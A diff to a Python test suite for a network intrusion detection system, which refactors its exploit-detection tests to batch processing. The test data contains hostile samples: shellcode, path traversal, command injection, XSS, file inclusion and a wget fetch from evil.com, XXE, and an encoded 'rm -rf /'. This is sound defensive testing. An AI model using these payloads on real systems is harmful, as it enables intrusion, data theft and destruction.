@@ -5,41 +5,16 @@ Tests for exploitation attempts, shellcode, and payload delivery attacks.
 
 import pytest
 import time
+import random
 import base64
-from nids.features import FeatureExtractor
-from nids.models import SimpleModelAdapter
-from nids.alerts import AlertManager
-from nids.schemas import PacketInfo, FlowKey
+from .base import AttackScenarioTest
 
 
-class TestExploitAttacks:
+@pytest.mark.xdist_group(name="exploits")
+class TestExploitAttacks(AttackScenarioTest):
     """Test cases for exploit attack detection."""
     
-    def setup_method(self):
-        """Set up test fixtures."""
-        self.extractor = FeatureExtractor(window_size=10, use_numba=False)
-        self.model = SimpleModelAdapter()
-        self.alert_manager = AlertManager(toast_enabled=False, min_confidence=0.5)
-    
-    def create_packet(self, src_ip="192.168.1.100", dst_ip="10.0.0.1", 
-                     src_port=12345, dst_port=80, protocol="tcp", 
-                     packet_size=1000, timestamp=None, **kwargs):
-        """Create a test packet with default values."""
-        defaults = {
-            'timestamp': timestamp or time.time(),
-            'src_ip': src_ip,
-            'dst_ip': dst_ip,
-            'src_port': src_port,
-            'dst_port': dst_port,
-            'protocol': protocol,
-            'packet_size': packet_size,
-            'payload_size': 500,
-            'payload': b'Normal payload data',
-            'tcp_flags': 0x18,  # PSH+ACK
-            'ttl': 64
-        }
-        defaults.update(kwargs)
-        return PacketInfo(**defaults)
+    PACKET_DEFAULTS = {'payload': b'Normal payload data'}
     
     def generate_shellcode_payload(self) -> bytes:
         """Generate shellcode-like payload with high entropy."""
@@ -51,9 +26,8 @@ class TestExploitAttacks:
             0x53, 0x89, 0xe1, 0xb0, 0x0b, 0xcd, 0x80
         ])
         # Add high entropy data to simulate encoded payload
-        import random
-        random.seed(42)  # Deterministic for testing
-        high_entropy_data = bytes([random.randint(0, 255) for _ in range(200)])
+        rng = random.Random(42)  # Deterministic for testing
+        high_entropy_data = rng.getrandbits(200 * 8).to_bytes(200, 'little')
         return nop_sled + shellcode + high_entropy_data
     
     def generate_encoded_payload(self) -> bytes:
@@ -87,11 +61,8 @@ class TestExploitAttacks:
             packets.append(packet)
         
         # Process exploit packets
-        predictions = []
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            prediction = self.model.predict(features)
-            predictions.append(prediction)
+        features = self.extractor.extract_features_batch(packets)
+        predictions = self.model.predict_batch(features)
         
         # Should detect exploit patterns
         attack_predictions = [p for p in predictions if p.is_attack]
@@ -99,9 +70,8 @@ class TestExploitAttacks:
         
         # Check for high entropy (shellcode detection)
         high_entropy_packets = []
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            if features.payload_entropy > 7.0:
+        for packet, packet_features in zip(packets, features):
+            if packet_features.payload_entropy > 7.0:
                 high_entropy_packets.append(packet)
         
         assert len(high_entropy_packets) > 0, "Should detect high entropy shellcode"
@@ -114,15 +84,15 @@ class TestExploitAttacks:
         # Various web exploits
         web_exploits = [
             # Directory traversal
-            b"GET /../../../../etc/passwd HTTP/1.1\\r\\nHost: target\\r\\n\\r\\n",
+            b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: target\r\n\r\n",
             # Command injection
-            b"GET /cgi-bin/test.cgi?cmd=;cat%20/etc/passwd HTTP/1.1\\r\\n\\r\\n",
+            b"GET /cgi-bin/test.cgi?cmd=;cat%20/etc/passwd HTTP/1.1\r\n\r\n",
             # XSS payload
-            b"POST /comment HTTP/1.1\\r\\nContent-Length: 100\\r\\n\\r\\ntext=<script>alert(document.cookie)</script>",
+            b"POST /comment HTTP/1.1\r\nContent-Length: 100\r\n\r\ntext=<script>alert(document.cookie)</script>",
             # File inclusion
-            b"GET /index.php?page=http://evil.com/shell.txt HTTP/1.1\\r\\n\\r\\n",
+            b"GET /index.php?page=http://evil.com/shell.txt HTTP/1.1\r\n\r\n",
             # XXE injection
-            b"POST /xml HTTP/1.1\\r\\nContent-Type: application/xml\\r\\n\\r\\n<?xml version='1.0'?><!DOCTYPE foo [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><root>&xxe;</root>",
+            b"POST /xml HTTP/1.1\r\nContent-Type: application/xml\r\n\r\n<?xml version='1.0'?><!DOCTYPE foo [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><root>&xxe;</root>",
         ]
         
         for i, exploit in enumerate(web_exploits):
@@ -140,11 +110,8 @@ class TestExploitAttacks:
             packets.append(packet)
         
         # Process web exploits
-        predictions = []
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            prediction = self.model.predict(features)
-            predictions.append(prediction)
+        features = self.extractor.extract_features_batch(packets)
+        predictions = self.model.predict_batch(features)
         
         # Should detect web exploits
         attack_predictions = [p for p in predictions if p.is_attack]
@@ -162,7 +129,7 @@ class TestExploitAttacks:
             # Hex encoded payload
             b"GET /exec?cmd=" + b"\x2f\x62\x69\x6e\x2f\x73\x68".hex().encode() + b" HTTP/1.1\r\n\r\n",
             # URL encoded payload
-            b"POST /run HTTP/1.1\\r\\n\\r\\ncmd=%2Fbin%2Fsh%20-c%20%22wget%20http%3A%2F%2Fevil.com%2Fshell%22",
+            b"POST /run HTTP/1.1\r\n\r\ncmd=%2Fbin%2Fsh%20-c%20%22wget%20http%3A%2F%2Fevil.com%2Fshell%22",
             # Base64 in JSON
             b'{"command":"' + base64.b64encode(b"rm -rf / --no-preserve-root") + b'"}',
         ]
@@ -182,11 +149,8 @@ class TestExploitAttacks:
             packets.append(packet)
         
         # Process RCE attempts
-        predictions = []
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            prediction = self.model.predict(features)
-            predictions.append(prediction)
+        features = self.extractor.extract_features_batch(packets)
+        predictions = self.model.predict_batch(features)
         
         # Should detect encoded RCE attempts
         attack_predictions = [p for p in predictions if p.is_attack]
@@ -200,7 +164,7 @@ class TestExploitAttacks:
         # Privilege escalation attempts
         privesc_payloads = [
             # Malformed sudo exploit
-            b"sudo " + b"A" * 1000 + b" /bin/sh\\n",
+            b"sudo " + b"A" * 1000 + b" /bin/sh\n",
             # SUID exploit attempt
             b"/usr/bin/passwd " + b"\x00" * 500 + b"root\n",
             # Kernel exploit payload
@@ -224,20 +188,16 @@ class TestExploitAttacks:
             packets.append(packet)
         
         # Process privilege escalation attempts
-        predictions = []
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            prediction = self.model.predict(features)
-            predictions.append(prediction)
+        features = self.extractor.extract_features_batch(packets)
+        predictions = self.model.predict_batch(features)
         
         # Should handle malformed privilege escalation
         assert len(predictions) == len(privesc_payloads), "Should process all privilege escalation packets"
         
         # Check for unusual patterns
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
+        for packet_features in features:
             # Should detect unusual byte patterns
-            assert features.payload_entropy >= 0.0, "Should calculate entropy for malformed data"
+            assert packet_features.payload_entropy >= 0.0, "Should calculate entropy for malformed data"
     
     def test_memory_corruption_exploit_typical(self):
         """Test memory corruption exploits with heap/stack manipulation."""
@@ -273,11 +233,8 @@ class TestExploitAttacks:
             packets.append(packet)
         
         # Process memory corruption exploits
-        predictions = []
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            prediction = self.model.predict(features)
-            predictions.append(prediction)
+        features = self.extractor.extract_features_batch(packets)
+        predictions = self.model.predict_batch(features)
         
         # Should detect memory corruption patterns
         attack_predictions = [p for p in predictions if p.is_attack]
@@ -319,21 +276,17 @@ class TestExploitAttacks:
             packets.append(packet)
         
         # Process cryptographic attacks
-        predictions = []
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            prediction = self.model.predict(features)
-            predictions.append(prediction)
+        features = self.extractor.extract_features_batch(packets)
+        predictions = self.model.predict_batch(features)
         
         # Should handle cryptographic attacks
         assert len(predictions) == len(crypto_attacks), "Should process all crypto attacks"
         
         # Check TLS feature detection
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
+        for packet, packet_features in zip(packets, features):
             # TLS packets should be detected
             if packet.dst_port == 443:
-                assert features.tls_sni_present is not None, "Should analyze TLS packets"
+                assert packet_features.tls_sni_present is not None, "Should analyze TLS packets"
     
     def test_exploit_chaining_edge_case(self):
         """Test exploit chaining - multiple exploits in sequence."""
@@ -348,7 +301,7 @@ class TestExploitAttacks:
             dst_ip="10.0.0.1",
             src_port=12345,
             dst_port=80,
-            payload=b"GET /admin HTTP/1.1\\r\\n\\r\\n",
+            payload=b"GET /admin HTTP/1.1\r\n\r\n",
             payload_size=23,
             timestamp=base_time
         )
@@ -360,7 +313,7 @@ class TestExploitAttacks:
             dst_ip="10.0.0.1",
             src_port=12345,
             dst_port=80,
-            payload=b"GET /admin/../../../../etc/passwd HTTP/1.1\\r\\n\\r\\n",
+            payload=b"GET /admin/../../../../etc/passwd HTTP/1.1\r\n\r\n",
             payload_size=50,
             timestamp=base_time + 1.0
         )
@@ -373,7 +326,7 @@ class TestExploitAttacks:
             dst_ip="10.0.0.1",
             src_port=12345,
             dst_port=80,
-            payload=b"POST /admin/upload HTTP/1.1\\r\\nContent-Length: " + str(len(exploit_payload)).encode() + b"\\r\\n\\r\\n" + exploit_payload,
+            payload=b"POST /admin/upload HTTP/1.1\r\nContent-Length: " + str(len(exploit_payload)).encode() + b"\r\n\r\n" + exploit_payload,
             payload_size=len(exploit_payload) + 50,
             timestamp=base_time + 2.0
         )
@@ -385,18 +338,15 @@ class TestExploitAttacks:
             dst_ip="10.0.0.1",
             src_port=12346,  # New connection
             dst_port=4444,   # Reverse shell port
-            payload=b"id; uname -a; whoami\\n",
+            payload=b"id; uname -a; whoami\n",
             payload_size=20,
             timestamp=base_time + 3.0
         )
         packets.append(post_packet)
         
         # Process exploit chain
-        predictions = []
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            prediction = self.model.predict(features)
-            predictions.append(prediction)
+        features = self.extractor.extract_features_batch(packets)
+        predictions = self.model.predict_batch(features)
         
         # Should detect exploit chain
         attack_predictions = [p for p in predictions if p.is_attack]
@@ -451,11 +401,11 @@ class TestExploitAttacks:
             # Novel shellcode encoding
             bytes([b ^ 0xAA for b in self.generate_shellcode_payload()]),  # XOR encoded
             # Unknown protocol exploitation
-            b"\\x42\\x42\\x42\\x42" + b"\\x90" * 300 + b"\\xCC" * 50,  # Custom protocol
+            b"\x42\x42\x42\x42" + b"\x90" * 300 + b"\xCC" * 50,  # Custom protocol
             # Polymorphic payload
-            b"\\x90\\x90" + bytes([(i * 7) % 256 for i in range(500)]),  # Generated pattern
+            b"\x90\x90" + bytes([(i * 7) % 256 for i in range(500)]),  # Generated pattern
             # Encrypted payload
-            b"\\x00\\x01\\x02\\x03" + bytes([(i * i) % 256 for i in range(600)]),  # Encrypted-like
+            b"\x00\x01\x02\x03" + bytes([(i * i) % 256 for i in range(600)]),  # Encrypted-like
         ]
         
         for i, pattern in enumerate(zero_day_patterns):
@@ -473,20 +423,16 @@ class TestExploitAttacks:
             packets.append(packet)
         
         # Process zero-day simulations
-        predictions = []
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            prediction = self.model.predict(features)
-            predictions.append(prediction)
+        features = self.extractor.extract_features_batch(packets)
+        predictions = self.model.predict_batch(features)
         
         # Should handle unknown patterns
         assert len(predictions) == len(zero_day_patterns), "Should process all zero-day patterns"
         
         # Check entropy detection for encoded payloads
         high_entropy_count = 0
-        for packet in packets:
-            features = self.extractor.extract_features(packet)
-            if features.payload_entropy > 6.0:
+        for packet_features in features:
+            if packet_features.payload_entropy > 6.0:
                 high_entropy_count += 1
         
         assert high_entropy_count > 0, "Should detect high entropy in encoded payloads"
\ No newline at end of file